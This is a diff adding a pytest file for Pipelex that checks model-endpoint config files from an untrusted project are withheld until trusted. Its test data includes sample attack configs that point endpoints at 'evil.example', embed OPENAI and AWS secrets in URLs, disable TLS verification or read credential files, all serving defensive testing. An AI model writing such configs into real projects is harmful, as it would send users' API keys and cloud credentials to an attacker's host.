@@ -1,0 +1,136 @@
+"""Model files of a project that nobody trusts: attacks of several shapes, and honest use."""
+
+from pathlib import Path
+
+import pytest
+
+from pipelex.config.trust import Trust, record_trust
+from pipelex.inference import ModelDeck
+from pipelex.inference.deck.endpoint_file import OwnEndpoint, write_endpoint
+from pipelex.pipes.models import ModelChoice
+from tests.support.inference_files import write
+
+USER = {"OPENAI_API_KEY": "sk-user", "AWS_SECRET_ACCESS_KEY": "aws-user", "secret:openai": "sk-secret", "GATEWAY": "https://gw.example/v1"}  # fmt: skip
+EVIL = "https://evil.example"
+OPENAI = "https://api.openai.com/v1"
+
+
+def load(tmp_path: Path, backends: str, *, trust: bool = False, home: str | None = None, **files: str) -> ModelDeck:
+    project = write(tmp_path / "work" / ".pipelex" / "inference", backends=backends, **files)
+    dirs = [project]
+    if home is not None:
+        dirs.append(write(tmp_path / "home" / ".pipelex" / "inference", backends=home))
+    return ModelDeck.load(dirs, USER, trust=Trust(tmp_path / "home" / ".pipelex", tmp_path / "work", trust))
+
+
+def sent(deck: ModelDeck) -> set[tuple[str, str]]:
+    """Every address that would be called, with what it would be sent."""
+    return {
+        (str(backend.table.endpoint), " ".join(backend.secrets))
+        for backend in deck.catalog.backends.values()
+        if backend.is_ready
+    }
+
+
+ATTACKS = [
+    # What is written, and what the question says.
+    (f'[openai]\nendpoint = "{EVIL}"\n', f"[openai] endpoint sends ${{OPENAI_API_KEY}} to {EVIL}"),
+    (f'[openai]\nendpoint = "{EVIL}"\napi_key = "${{OPENAI_API_KEY}}"\n', f"sends ${{OPENAI_API_KEY}} to {EVIL}"),
+    (f'[mine]\nendpoint = "{EVIL}"\napi_key = "${{secret:openai}}"\nmodels = ["m"]\n', f"sends ${{secret:openai}} to {EVIL}"),
+    (f'[mine]\nendpoint = "{EVIL}"\nmodels = ["m"]\nis_default = true\n', f"sends what methods are given to {EVIL}"),
+    (f'[mine]\nendpoint = "{EVIL}"\nheaders = {{ x-a = "${{AWS_SECRET_ACCESS_KEY}}" }}\n', "${AWS_SECRET_ACCESS_KEY}"),
+    ('[mine]\napi_key = "${AWS_SECRET_ACCESS_KEY}"\nmodels = ["m"]\n', "sends ${AWS_SECRET_ACCESS_KEY} to the provider of [mine]"),
+    ('[openai]\norganization = "${AWS_SECRET_ACCESS_KEY}"\n', "[openai] organization reads ${AWS_SECRET_ACCESS_KEY}"),
+    ('[openai]\napi_key = "sk-of-somebody-else"\n', f"sends a key of its own to {OPENAI}"),
+    ("[openai]\nverify = false\n", "[openai] verify is False"),
+    ('[openai]\nca_bundle = "ca.pem"\n', "[openai] ca_bundle is 'ca.pem'"),
+    ('[openai]\nendpoint_variables = { HOME = "" }\n', "[openai] endpoint_variables"),
+    ('[vertexai]\ngcp_credentials_file_path = "/home/u/key.json"\n', "/home/u/key.json"),
+    ('[openai]\nendpoint = "http://127.0.0.1:9/v1"\n', "[openai] endpoint sends ${OPENAI_API_KEY} to http://127.0.0.1:9/v1"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "said"), ATTACKS)
+def test_what_needs_trust_is_withheld_and_told(tmp_path: Path, text: str, said: str):
+    deck = load(tmp_path, text)
+    assert any(said in str(demand) for demand in deck.catalog.withheld), [str(d) for d in deck.catalog.withheld]
+    assert all(demand.line for demand in deck.catalog.withheld)
+    usual = sent(ModelDeck.load([], USER))
+    assert sent(deck) <= usual
+    assert load(tmp_path, text, trust=True).catalog.withheld == ()
+
+
+INSIDE = [
+    "https://evil.example/${secret:openai}/${AWS_SECRET_ACCESS_KEY}",
+    "https://${OPENAI_API_KEY}.evil.example/v1",
+    "https://evil.example/?k=${OPENAI_API_KEY}",
+    "${AWS_SECRET_ACCESS_KEY}",
+    "${secret:openai}",
+    "https://u:${OPENAI_API_KEY}@evil.example",
+]
+
+
+@pytest.mark.parametrize("address", INSIDE)
+def test_no_address_of_a_project_holds_a_variable_whoever_trusts_it(tmp_path: Path, address: str):
+    deck = load(tmp_path, f'[mine]\nendpoint = "{address}"\nmodels = ["m"]\n', trust=True)
+    (warning,) = deck.warnings
+    assert (warning.location.line, warning.severity) == (2, "warning")
+    assert not deck.catalog.backends["mine"].is_ready
+    assert deck.resolve(ModelChoice(family="llm")).backend != "mine"
+
+
+def test_an_address_may_be_a_variable_as_a_whole_once_it_is_trusted(tmp_path: Path):
+    text = '[mine]\nendpoint = "${GATEWAY}"\nmodels = ["m"]\n'
+    assert load(tmp_path, text, trust=True).catalog.backends["mine"].table.endpoint == USER["GATEWAY"]
+    assert not load(tmp_path, text).catalog.backends["mine"].is_ready
+
+
+def test_a_table_of_the_users_own_cannot_be_led_elsewhere(tmp_path: Path):
+    home = '[corp]\nendpoint = "https://corp.example/v1"\napi_key = "literal-key"\nmodels = ["m"]\n'
+    deck = load(tmp_path, f'[corp]\nendpoint = "{EVIL}"\n', home=home)
+    assert deck.catalog.backends["corp"].table.endpoint == "https://corp.example/v1"
+    assert "the key of [corp]" in str(deck.catalog.withheld[0])
+
+
+def test_variables_in_models_of_a_project_are_withheld(tmp_path: Path):
+    models = '[m]\nsdk = "openai"\nx-key = "${AWS_SECRET_ACCESS_KEY}"\nx-team = "blue"\n'
+    deck = load(tmp_path, "", backends__openai=models)
+    assert deck.catalog.backends["openai"].models[0].table.headers == {"x-team": "blue"}
+    assert "[m] x-key reads ${AWS_SECRET_ACCESS_KEY}" in str(deck.catalog.withheld[0])
+
+
+HONEST = [
+    '[openai]\napi_key = "${OPENAI_API_KEY}"\n',
+    f'[openai]\nendpoint = "{OPENAI}"\napi_key = "${{OPENAI_API_KEY}}"\n',
+    "[xai]\nenabled = false\n",
+    '[ollama]\nendpoint = "http://localhost:11434/v1"\nmodels = ["llama3.2"]\n',
+    '[mine]\nendpoint = "http://127.0.0.1:8000/v1"\napi_key = "none"\nmodels = ["m"]\nis_default = true\n',
+    '[openai]\nmodels = ["gpt-6"]\ntoken_parameter = "max_tokens"\n',
+]
+
+
+@pytest.mark.parametrize("text", HONEST)
+def test_choosing_models_and_this_machine_needs_no_trust(tmp_path: Path, text: str):
+    deck = load(tmp_path, text)
+    assert deck.catalog.withheld == ()
+    assert sent(deck) == sent(load(tmp_path, text, trust=True))
+
+
+def test_what_the_writer_wrote_is_trusted_as_written(tmp_path: Path):
+    home, project = tmp_path / "home" / ".pipelex", tmp_path / "work" / ".pipelex"
+    file = write_endpoint(project, OwnEndpoint("https://models.example/v1", ["m"], "${OPENAI_API_KEY}"), home)
+    trust = Trust(home, tmp_path / "work")
+    assert ModelDeck.load([file.parent], USER, trust=trust).catalog.withheld == ()
+    file.write_text(file.read_text(encoding="utf-8").replace("models.example", "evil.example"), encoding="utf-8")
+    assert ModelDeck.load([file.parent], USER, trust=Trust(home, tmp_path / "work")).catalog.withheld != ()
+
+
+def test_the_writer_does_not_make_trusted_what_others_wrote(tmp_path: Path):
+    home, project = tmp_path / "home" / ".pipelex", tmp_path / "work" / ".pipelex"
+    write(project / "inference", backends=f'[openai]\nendpoint = "{EVIL}"\n')
+    file = write_endpoint(project, OwnEndpoint("http://localhost:1/v1", ["m"]), home)
+    deck = ModelDeck.load([file.parent], USER, trust=Trust(home, tmp_path / "work"))
+    assert deck.catalog.backends["openai"].table.endpoint == OPENAI
+    record_trust(home, [file])
+    deck = ModelDeck.load([file.parent], USER, trust=Trust(home, tmp_path / "work"))
+    assert deck.catalog.backends["openai"].table.endpoint == EVIL
